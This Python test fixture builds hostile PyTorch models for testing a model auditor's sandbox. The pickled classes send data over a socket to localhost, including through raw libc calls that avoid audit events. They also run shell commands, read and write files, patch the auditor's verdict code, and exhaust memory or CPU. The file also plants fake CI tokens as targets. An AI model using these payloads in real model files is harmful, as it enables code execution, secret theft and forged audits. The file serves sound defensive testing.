"""Hostile models for the jail tests: each does its harm when auditor (or anyone) loads or runs it.

``ShapeLoop`` is a TorchScript archive whose loop is bounded by a shape after ``nonzero()``: the static
op check lets it through today, and it runs for ever on the random input auditor traces with.

They stand for what the static checks miss: the tests trust their module with ``--import`` (the
test-only "check miss"), so the checks let every payload through to loading and tracing, where only
the jail stands between the payload and the host. Each payload is first proven live under the plain
loader (``torch.load(weights_only=False)`` then a forward pass) in a subprocess (:data:`PLAIN_RUN`).
"""

from __future__ import annotations

import json
import os
import resource
import signal
import subprocess
import sys
from pathlib import Path

import torch

MODULE = "jailbait"
#: CPU seconds a TorchScript payload may use under the plain loader before it counts as hanging (importing torch,
#: loading and running a model that ends take under 3).
PLAIN_CPU_S = 8
SOURCE = '''
import ctypes, os, socket, struct, time
import torch
from torch import nn


class Base(nn.Module):
    def __init__(self, arg=""):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 3)
        self.arg = arg

    def forward(self, x):
        self.act()
        return self.conv(x)


class AllocTensor(Base):
    def act(self):
        self.held = torch.ones(int(self.arg) // 4)


class Spin(Base):
    def act(self):
        n = 0
        while n >= 0:
            n += 1


class Sleep(Base):
    def act(self):
        time.sleep(10 ** 6)


class Connect(Base):
    def act(self):
        socket.create_connection(("127.0.0.1", int(self.arg)), timeout=5).sendall(b"leak")


class CConnect(Base):
    def act(self):  # straight into libc: no Python audit event
        libc = ctypes.CDLL(None)
        fd = libc.socket(2, 1, 0)
        addr = struct.pack("!HH4s8x", 2, int(self.arg), bytes([127, 0, 0, 1]))
        addr = struct.pack("=H", 2) + addr[2:]
        libc.connect(fd, addr, 16)
        libc.send(fd, b"leak", 4, 0)


class Shell(Base):
    def act(self):
        os.system("touch " + self.arg)


class WriteOut(Base):
    def act(self):
        with open(self.arg, "w") as fh:
            fh.write("pwned")


class CWriteOut(Base):
    def act(self):  # straight into libc: no Python audit event
        ctypes.CDLL(None).creat(self.arg.encode(), 0o644)


class ReadOut(Base):
    def act(self):
        with open(self.arg) as fh:
            self.stolen = fh.read()


class ShapeLoop(nn.Module):
    """TorchScript: a loop bound by a shape after nonzero(): no work on zeros, for ever on a random input."""

    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 3)

    def forward(self, x):
        n = x.nonzero().size(0) * 1000000000
        acc = x
        for i in range(n):
            acc = acc + 1.0
        return self.conv(acc)


class AllocNumpy(Base):
    def act(self):
        import numpy
        self.held = numpy.ones(int(self.arg) // 8)


class Poison(Base):
    def act(self):  # rewrites the audit's own code in this process: a later file's verdict would be forged
        import auditor.audit.batch as batch
        batch.draft_of = lambda *a, **k: None
        self.stolen = "patched"


class Backtrack(Base):
    def act(self):  # catastrophic backtracking: the loop runs in the C regex engine
        import re
        re.match("(a|aa)+$", "a" * 80 + "b")
'''

#: Run by the plain loader in a subprocess: load and run each file, report what happened as JSON.
PLAIN_RUN = r'''
import json, resource, signal, sys, torch
torch.set_num_threads(1)
out = {}
for path in sys.argv[1:]:
    def stop(*_):
        raise TimeoutError("hangs")
    signal.signal(signal.SIGALRM, stop)
    signal.alarm(2)
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    mapped = int(open("/proc/self/statm").read().split()[0]) * 4096
    resource.setrlimit(resource.RLIMIT_AS, (mapped + (4 << 30), hard))
    try:
        model = torch.jit.load(path) if path.endswith(".ts") else torch.load(path, weights_only=False)
        model(torch.rand(1, 3, 8, 8))
        out[path] = getattr(model, "stolen", None) or "ran"
    except TimeoutError:
        out[path] = "hangs"
    except MemoryError:
        out[path] = "exceeds 4 GiB"
    except RuntimeError as exc:
        out[path] = "exceeds 4 GiB" if "alloc" in str(exc) else f"error: {exc}"
    except Exception as exc:
        out[path] = f"error: {type(exc).__name__}: {exc}"
    finally:
        signal.alarm(0)
        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))
print(json.dumps(out))
'''


def write_module(folder: Path) -> Path:
    """Write the payload module into ``folder`` (put on ``sys.path`` by the test, as CI puts a checkout)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{MODULE}.py").write_text(SOURCE)
    return folder


def write_checkout(folder: Path) -> dict[str, Path]:
    """A repository checkout holding the payload module beside a CI token in ``.git/config`` and ``.env``."""
    write_module(folder)
    (folder / ".git").mkdir(parents=True, exist_ok=True)
    (folder / ".git" / "config").write_text('[http]\n\textraheader = AUTHORIZATION: basic GIT-SECRET-TOKEN\n')
    (folder / ".env").write_text("API_KEY=ENV-SECRET-TOKEN\n")
    return {"git": folder / ".git" / "config", "env": folder / ".env"}


def save(folder: Path, name: str, cls: str, arg: object = "") -> Path:
    """Pickle an instance of payload class ``cls`` to ``folder/name`` (the module must be importable)."""
    import importlib

    module = importlib.import_module(MODULE)
    model = getattr(module, cls)(str(arg)) if arg != "" else getattr(module, cls)()
    path = folder / name
    torch.save(model, path)
    return path


def save_torchscript(folder: Path, name: str, cls: str) -> Path:
    """Script payload class ``cls`` and save it with ``torch.jit.save`` (no pickled class: no --import needed)."""
    import importlib
    import warnings

    path = folder / name
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", FutureWarning)
        torch.jit.save(torch.jit.script(getattr(importlib.import_module(MODULE), cls)()), path)
    return path


def run_plain(paths: list[Path], module_dir: Path) -> dict[str, str]:
    """Load and run every file with the plain loader in one subprocess; what each did."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(module_dir), *sys.path]), "OMP_NUM_THREADS": "1"}
    pickles = [str(p) for p in paths if p.suffix != ".ts"]
    done = subprocess.run([sys.executable, "-c", PLAIN_RUN, *pickles], env=env, capture_output=True,
                          text=True, timeout=300, check=True)
    out: dict[str, str] = json.loads(done.stdout.strip().splitlines()[-1])
    for path in (p for p in paths if p.suffix == ".ts"):  # TorchScript's loop never checks Python's signals
        done = subprocess.run([sys.executable, "-c", PLAIN_RUN, str(path)], env=env, capture_output=True,
                              timeout=300, check=False, preexec_fn=_cpu_limit)
        out[str(path)] = "hangs" if done.returncode == -signal.SIGXCPU else json.loads(done.stdout)[str(path)]
    return out


def _cpu_limit() -> None:
    """In the child: stop it with SIGXCPU after :data:`PLAIN_CPU_S` CPU seconds (a budget no load can shorten)."""
    resource.setrlimit(resource.RLIMIT_CPU, (PLAIN_CPU_S, PLAIN_CPU_S + 5))
